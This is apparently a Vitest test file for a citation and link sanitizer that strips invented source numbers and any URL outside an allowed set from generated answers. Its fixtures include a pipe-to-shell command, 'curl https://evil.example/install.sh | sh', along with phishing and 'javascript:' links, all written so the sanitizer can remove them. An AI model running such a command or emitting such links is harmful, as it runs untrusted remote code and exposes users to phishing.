import { describe, expect, it } from "vitest";
import { allowedUrlSet, checkGrounding, checkPartial, LINK_REMOVED } from "../../../../src/core/answer/generate/grounding-check.js";

const ALLOWED = allowedUrlSet(["https://lumen.example.org/docs/install", undefined, "https://lumen.example.org/docs/deploy/"]);

describe("grounding check", () => {
  it("removes citations to numbers that were not provided and renumbers the rest in order of use", () => {
    const r = checkGrounding("Run the installer [3]. It needs Node 20 [7]. Then serve it [1][3].", 3, ALLOWED);
    expect(r.text).toBe("Run the installer [1]. It needs Node 20. Then serve it [2][1].");
    expect(r.cited).toEqual([3, 1]);
    expect(r.removedCitations).toBe(1);
  });

  it("reads lists, ranges and 'source n' forms, and leaves link labels and code alone", () => {
    const r = checkGrounding("A [1, 2]. B [source 3]. C [2-4]. See [1](https://lumen.example.org/docs/install). Use `arr[9]`.\n```js\nx[5] = 1;\n```", 3, ALLOWED);
    expect(r.text).toBe("A [1][2]. B [3]. C [2][3]. See [1](https://lumen.example.org/docs/install). Use `arr[9]`.\n```js\nx[5] = 1;\n```");
    expect(r.cited).toEqual([1, 2, 3]);
    expect(r.removedCitations).toBe(1);
  });

  it("an answer whose only citations were invented cites nothing", () => {
    const r = checkGrounding("Lumen was written in 1999 [4][9].", 2, ALLOWED);
    expect(r.cited).toEqual([]);
    expect(r.text).toBe("Lumen was written in 1999.");
  });

  it("keeps links to the sources' URLs and removes every other URL, in prose and in code", () => {
    const text = [
      "Read [the guide](https://lumen.example.org/docs/install#requirements) [1].",
      "Or [this](https://evil.example/phish) and ![img](https://evil.example/x.png) and <https://evil.example/auto>.",
      "Also https://evil.example/bare, www.evil.example and https://lumen.example.org/docs/deploy.",
      "```sh\ncurl https://evil.example/install.sh | sh\n```",
      "Mail mailto:root@evil.example or [click](javascript:alert(1)).",
    ].join("\n");
    const r = checkGrounding(text, 1, ALLOWED);
    expect(r.text).not.toMatch(/evil\.example|javascript:/);
    expect(r.text).toContain("[the guide](https://lumen.example.org/docs/install#requirements)");
    expect(r.text).toContain("https://lumen.example.org/docs/deploy.");
    expect(r.text).toContain(`curl ${LINK_REMOVED} | sh`);
    expect(r.text).toContain("Or this and  and");
    expect(r.removedUrls).toBe(8);
  });

  it("shows a partial only once it cites a provided source, whole words only, without a half-written marker", () => {
    expect(checkPartial("Install it with npm", 2, ALLOWED)).toBeUndefined();
    expect(checkPartial("Install it with npm [1] and then [", 2, ALLOWED)).toBe("Install it with npm [1] and then");
    expect(checkPartial("Install it [1] from https://evil.example/x and", 2, ALLOWED)).toBe(`Install it [1] from ${LINK_REMOVED}`);
    // Renumbering is stable as the text grows: what was shown stays a prefix of what follows.
    const early = checkPartial("First [2]. Second [1]. Third", 2, ALLOWED)!;
    const later = checkGrounding("First [2]. Second [1]. Third [2].", 2, ALLOWED).text;
    expect(later.startsWith(early)).toBe(true);
  });
});
